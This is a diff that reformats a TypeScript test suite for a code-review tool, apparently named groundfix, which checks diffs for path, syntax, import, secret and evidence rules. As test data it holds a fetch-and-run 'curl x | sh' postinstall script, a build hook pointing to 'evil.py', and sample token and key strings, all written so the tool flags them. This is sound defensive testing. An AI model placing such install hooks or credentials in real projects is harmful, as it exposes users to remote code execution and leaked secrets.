@@ -5,7 +5,9 @@ import type { Finding, RunRecord } from "../../src/types.js";
 import { gitChange, type TestTree } from "./helpers.js";
 
 const APP = "export function add(a: number, b: number): number {\n  return a + b;\n}\n";
-const PKG = JSON.stringify({ name: "demo", dependencies: { zod: "4.0.0" }, devDependencies: { "@types/node": "20" } }, null, 2) + "\n";
+const PKG =
+  JSON.stringify({ name: "demo", dependencies: { zod: "4.0.0" }, devDependencies: { "@types/node": "20" } }, null, 2) +
+  "\n";
 
 function review(base: TestTree, head: TestTree, config = defaultConfig(), record?: RunRecord) {
   const change = gitChange(base, head);
@@ -45,7 +47,11 @@ describe("rule 1, grounded hunks", () => {
     expect(report.conclusion).toBe("failure");
   });
   test("real CRLF and no-newline diffs are grounded", () => {
-    const report = review({ "w.txt": "a\r\nb\r\nc" }, { "w.txt": "a\r\nb\r\nc\r\nd" }, parseConfig({ edits: { allow: "modifications" } }));
+    const report = review(
+      { "w.txt": "a\r\nb\r\nc" },
+      { "w.txt": "a\r\nb\r\nc\r\nd" },
+      parseConfig({ edits: { allow: "modifications" } }),
+    );
     expect(only(report.findings, "grounded_hunks")).toEqual([]);
   });
 });
@@ -113,18 +119,33 @@ describe("rule 3, paths", () => {
   });
   test("a lifted rule lets the file through; a fixed rule cannot be lifted", () => {
     const cfg = parseConfig({ paths: { allow_protected: ["container", "github"] } });
-    expect(only(review({ Dockerfile: "FROM x\n" }, { Dockerfile: "FROM x\nRUN y\n" }, cfg).findings, "paths")).toEqual([]);
-    expect(only(review({ ".github/groundfix.yml": "a: 1\n" }, { ".github/groundfix.yml": "a: 1\nb: 2\n" }, cfg).findings, "paths")).toHaveLength(1);
+    expect(only(review({ Dockerfile: "FROM x\n" }, { Dockerfile: "FROM x\nRUN y\n" }, cfg).findings, "paths")).toEqual(
+      [],
+    );
+    expect(
+      only(
+        review({ ".github/groundfix.yml": "a: 1\n" }, { ".github/groundfix.yml": "a: 1\nb: 2\n" }, cfg).findings,
+        "paths",
+      ),
+    ).toHaveLength(1);
   });
   test("package.json: a new dependency passes, a new or changed script fails; pyproject build hooks likewise", () => {
     const pkg = (o: object) => JSON.stringify({ name: "x", ...o }, null, 2) + "\n";
-    const ok = review({ "package.json": pkg({ scripts: { test: "vitest" } }) }, { "package.json": pkg({ scripts: { test: "vitest" }, dependencies: { a: "1" } }) });
+    const ok = review(
+      { "package.json": pkg({ scripts: { test: "vitest" } }) },
+      { "package.json": pkg({ scripts: { test: "vitest" }, dependencies: { a: "1" } }) },
+    );
     expect(only(ok.findings, "paths")).toEqual([]);
-    const bad = review({ "package.json": pkg({ scripts: { test: "vitest" } }) }, { "package.json": pkg({ scripts: { test: "vitest", postinstall: "curl x | sh" } }) });
+    const bad = review(
+      { "package.json": pkg({ scripts: { test: "vitest" } }) },
+      { "package.json": pkg({ scripts: { test: "vitest", postinstall: "curl x | sh" } }) },
+    );
     expect(only(bad.findings, "paths")[0]!.message).toContain('built-in rule "package-scripts"');
     const py = '[project]\nname = "x"\n\n[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n';
     const hooked = py + '\n[tool.hatch.build.hooks.custom]\npath = "evil.py"\n';
-    expect(only(review({ "pyproject.toml": py }, { "pyproject.toml": hooked }).findings, "paths")[0]!.message).toContain('"pyproject-build"');
+    expect(
+      only(review({ "pyproject.toml": py }, { "pyproject.toml": hooked }).findings, "paths")[0]!.message,
+    ).toContain('"pyproject-build"');
     const dep = py.replace('name = "x"', 'name = "x"\ndependencies = ["requests"]');
     expect(only(review({ "pyproject.toml": py }, { "pyproject.toml": dep }).findings, "paths")).toEqual([]);
   });
@@ -142,8 +163,16 @@ describe("rule 4, size", () => {
     const report = review({}, { "a.txt": "1\n2\n", "b.txt": "3\n4\n", "c.txt": "5\n" }, cfg);
     const size = only(report.findings, "size");
     expect(size).toEqual([
-      expect.objectContaining({ path: "c.txt", start_line: 1, message: expect.stringContaining("touches 3 files; edits.max_files is 2") }),
-      expect.objectContaining({ path: "b.txt", start_line: 2, message: expect.stringContaining("adds 5 lines; edits.max_added_lines is 3") }),
+      expect.objectContaining({
+        path: "c.txt",
+        start_line: 1,
+        message: expect.stringContaining("touches 3 files; edits.max_files is 2"),
+      }),
+      expect.objectContaining({
+        path: "b.txt",
+        start_line: 2,
+        message: expect.stringContaining("adds 5 lines; edits.max_added_lines is 3"),
+      }),
     ]);
   });
 });
@@ -151,9 +180,14 @@ describe("rule 4, size", () => {
 describe("rule 5, syntax", () => {
   const cases: [string, string, string, number][] = [
     ["src/a.ts", "export const a = 1;\n", "export const a = 1;\nexport function b( {\n", 2],
-    ["src/c.tsx", "export const C = () => <div/>;\n", "export const C = () => <div/>;\nexport const D = () => <div>;\n", 3],
+    [
+      "src/c.tsx",
+      "export const C = () => <div/>;\n",
+      "export const C = () => <div/>;\nexport const D = () => <div>;\n",
+      3,
+    ],
     ["lib/m.mjs", "export default 1;\n", "export default 1;\nconst = 2;\n", 2],
-    ["data/x.json", "{\n  \"a\": 1\n}\n", "{\n  \"a\": 1,\n}\n", 3],
+    ["data/x.json", '{\n  "a": 1\n}\n', '{\n  "a": 1,\n}\n', 3],
     ["conf/y.yaml", "a: 1\n", "a: 1\nb: [1, 2\n", 3],
     ["tool/z.py", "def f(x):\n    return x\n", "def f(x):\n    return x\n\ndef g(:\n    pass\n", 4],
   ];
@@ -168,13 +202,20 @@ describe("rule 5, syntax", () => {
     });
   }
   test("a file that did not parse at base is not blamed; a BOM JSON file parses", () => {
-    const report = review({ "bad.json": "{\n", "bom.json": "\uFEFF{}\n" }, { "bad.json": "{\n\n", "bom.json": "\uFEFF{}\n\n" });
+    const report = review(
+      { "bad.json": "{\n", "bom.json": "\uFEFF{}\n" },
+      { "bad.json": "{\n\n", "bom.json": "\uFEFF{}\n\n" },
+    );
     expect(only(report.findings, "syntax")).toEqual([]);
   });
 });
 
 describe("rule 6, imports", () => {
-  const base = { "package.json": PKG, "src/util.ts": "export const u = 1;\n", "src/main.ts": "import { u } from \"./util.js\";\n" };
+  const base = {
+    "package.json": PKG,
+    "src/util.ts": "export const u = 1;\n",
+    "src/main.ts": 'import { u } from "./util.js";\n',
+  };
   test("relative imports that resolve (incl. .js → .ts, /index, node: builtins, declared packages) pass", () => {
     const head = {
       ...base,
@@ -187,7 +228,8 @@ describe("rule 6, imports", () => {
   test("a relative import to no file and an undeclared package fail, naming the import", () => {
     const head = {
       ...base,
-      "src/main.ts": 'import { u } from "./util.js";\nimport { h } from "./helpers.js";\nconst left = require("left-pad");\nimport { x } from "@acme/tool/sub";\n',
+      "src/main.ts":
+        'import { u } from "./util.js";\nimport { h } from "./helpers.js";\nconst left = require("left-pad");\nimport { x } from "@acme/tool/sub";\n',
     };
     const found = only(review(base, head).findings, "imports").map((f) => [f.path, f.start_line, f.message]);
     expect(found).toEqual([
@@ -197,10 +239,16 @@ describe("rule 6, imports", () => {
     ]);
   });
   test("python: stdlib, repo modules, requirements pass; a made-up module fails", () => {
-    const pyBase = { "requirements.txt": "PyYAML>=6\nrequests==2.31\n", "app/__init__.py": "", "app/core.py": "X = 1\n", "app/main.py": "import os\n" };
+    const pyBase = {
+      "requirements.txt": "PyYAML>=6\nrequests==2.31\n",
+      "app/__init__.py": "",
+      "app/core.py": "X = 1\n",
+      "app/main.py": "import os\n",
+    };
     const pyHead = {
       ...pyBase,
-      "app/main.py": "import os\nimport json, sys\nimport yaml\nfrom requests import get\nfrom app.core import X\nfrom .core import X as Y\nimport totally_fake_lib\nfrom . import nothere_mod\n",
+      "app/main.py":
+        "import os\nimport json, sys\nimport yaml\nfrom requests import get\nfrom app.core import X\nfrom .core import X as Y\nimport totally_fake_lib\nfrom . import nothere_mod\n",
     };
     const found = only(review(pyBase, pyHead).findings, "imports").map((f) => [f.path, f.start_line, f.message]);
     expect(found).toEqual([["app/main.py", 7, expect.stringContaining('import "totally_fake_lib"')]]);
@@ -210,7 +258,10 @@ describe("rule 6, imports", () => {
 describe("rule 7, secrets", () => {
   test("a token-like string on an added line fails without repeating it", () => {
     const token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
-    const report = review({ "src/c.ts": "export const c = 1;\n" }, { "src/c.ts": `export const c = 1;\nexport const t = "${token}";\n` });
+    const report = review(
+      { "src/c.ts": "export const c = 1;\n" },
+      { "src/c.ts": `export const c = 1;\nexport const t = "${token}";\n` },
+    );
     const [f] = only(report.findings, "secrets");
     expect(f).toMatchObject({ path: "src/c.ts", start_line: 2, level: "failure" });
     expect(f!.message).toContain("GitHub token");
@@ -219,14 +270,19 @@ describe("rule 7, secrets", () => {
   });
   test.each([
     ["a Stripe live key", 'const k = "sk_live_' + '4eC39HqLyjWDarjtT1zdp7dc";'],
-    ["a JWT", 'const jwt = "eyJhbGciOiJIUzI1NiJ9' + '.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U";'],
+    [
+      "a JWT",
+      'const jwt = "eyJhbGciOiJIUzI1NiJ9' +
+        '.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U";',
+    ],
     ["an env-style token", "DEPLOY_TOKEN=a8f5f167f44f4964e6c998dee827110c"],
   ])("%s on an added line fails: the review catches what redaction hides", (_kind, line) => {
     const report = review({ "src/c.ts": "x\n" }, { "src/c.ts": `x\n${line}\n` });
     expect(only(report.findings, "secrets").map((f) => f.start_line)).toEqual([2]);
   });
   test("the message takes the right article: an AWS access key id, a GitHub token", () => {
-    const head = 'const id = "AKIA' + 'IOSFODNN7EXAMPLE";\nconst t = "ghp_' + 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";\n';
+    const head =
+      'const id = "AKIA' + 'IOSFODNN7EXAMPLE";\nconst t = "ghp_' + 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";\n';
     const messages = only(review({ "src/c.ts": "" }, { "src/c.ts": head }).findings, "secrets").map((f) => f.message);
     expect(messages.join("\n")).toContain("contains an AWS access key id-like string");
     expect(messages.join("\n")).toContain("contains a GitHub token-like string");
@@ -236,7 +292,9 @@ describe("rule 7, secrets", () => {
     const base = "a\n-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkq\n-----END PRIVATE KEY-----\n";
     const head = "a\n-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkq\nhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n";
     const report = review({ "fixtures/k.txt": base }, { "fixtures/k.txt": head });
-    expect(only(report.findings, "secrets").map((f) => [f.start_line, f.message])).toEqual([[4, expect.stringContaining("private key block")]]);
+    expect(only(report.findings, "secrets").map((f) => [f.start_line, f.message])).toEqual([
+      [4, expect.stringContaining("private key block")],
+    ]);
   });
 });
 
@@ -246,10 +304,23 @@ describe("rule 8, evidence", () => {
     version: 1,
     run_id: "r1",
     base_sha: "b".repeat(40),
-    edits: [{ path: "src/math.ts", start_line: 3, end_line: 3, code_before: "}\n", code_after: "}\nexport const VERSION = 2;\n" }],
+    edits: [
+      {
+        path: "src/math.ts",
+        start_line: 3,
+        end_line: 3,
+        code_before: "}\n",
+        code_after: "}\nexport const VERSION = 2;\n",
+      },
+    ],
   };
   test("hunks that match the recorded edits pass; the rule shows as checked", () => {
-    const report = review({ "src/math.ts": APP }, { "src/math.ts": head }, defaultConfig(), decodeRunRecord(`body\n${encodeRunRecord(record)}`)!);
+    const report = review(
+      { "src/math.ts": APP },
+      { "src/math.ts": head },
+      defaultConfig(),
+      decodeRunRecord(`body\n${encodeRunRecord(record)}`)!,
+    );
     expect(report.findings).toEqual([]);
     expect(report.rulesChecked).toContain("evidence");
     expect(report.title).toBe("groundfix review: passed 8 rules");
@@ -258,18 +329,38 @@ describe("rule 8, evidence", () => {
     const two: RunRecord = {
       ...record,
       edits: [
-        { path: "src/math.ts", start_line: 1, end_line: 1, code_before: "export function add(a: number, b: number): number {\n", code_after: "// adds\nexport function add(a: number, b: number): number {\n" },
-        { path: "src/math.ts", start_line: 2, end_line: 2, code_before: "  return a + b;\n", code_after: "  // sum\n  return a + b;\n" },
+        {
+          path: "src/math.ts",
+          start_line: 1,
+          end_line: 1,
+          code_before: "export function add(a: number, b: number): number {\n",
+          code_after: "// adds\nexport function add(a: number, b: number): number {\n",
+        },
+        {
+          path: "src/math.ts",
+          start_line: 2,
+          end_line: 2,
+          code_before: "  return a + b;\n",
+          code_after: "  // sum\n  return a + b;\n",
+        },
       ],
     };
     const both = APP.replace("export function", "// adds\nexport function").replace("  return", "  // sum\n  return");
     expect(review({ "src/math.ts": APP }, { "src/math.ts": both }, defaultConfig(), two).findings).toEqual([]);
     const twice = both.replace("  // sum\n", "  // sum\n  // sum\n");
-    const [f] = only(review({ "src/math.ts": APP }, { "src/math.ts": twice }, defaultConfig(), two).findings, "evidence");
+    const [f] = only(
+      review({ "src/math.ts": APP }, { "src/math.ts": twice }, defaultConfig(), two).findings,
+      "evidence",
+    );
     expect(f).toMatchObject({ path: "src/math.ts", start_line: 4 });
   });
   test("a hunk with no recorded edit fails at its line", () => {
-    const report = review({ "src/math.ts": APP }, { "src/math.ts": head + "export const EXTRA = 3;\n" }, defaultConfig(), record);
+    const report = review(
+      { "src/math.ts": APP },
+      { "src/math.ts": head + "export const EXTRA = 3;\n" },
+      defaultConfig(),
+      record,
+    );
     const [f] = only(report.findings, "evidence");
     expect(f).toMatchObject({ path: "src/math.ts", start_line: 5, level: "failure" });
     expect(f!.message).toContain('"export const EXTRA = 3;"');
@@ -300,7 +391,12 @@ describe("a patch without hunks", () => {
     const record: RunRecord = { version: 1, run_id: "r", base_sha: change.base.sha, edits: [] };
     const report = reviewChange({ ...change, patches, config: defaultConfig(), record });
     expect(only(report.findings, "evidence")).toEqual([
-      expect.objectContaining({ path: "src/math.ts", start_line: 4, level: "failure", message: expect.stringContaining("matches no edit") }),
+      expect.objectContaining({
+        path: "src/math.ts",
+        start_line: 4,
+        level: "failure",
+        message: expect.stringContaining("matches no edit"),
+      }),
     ]);
   });
 });
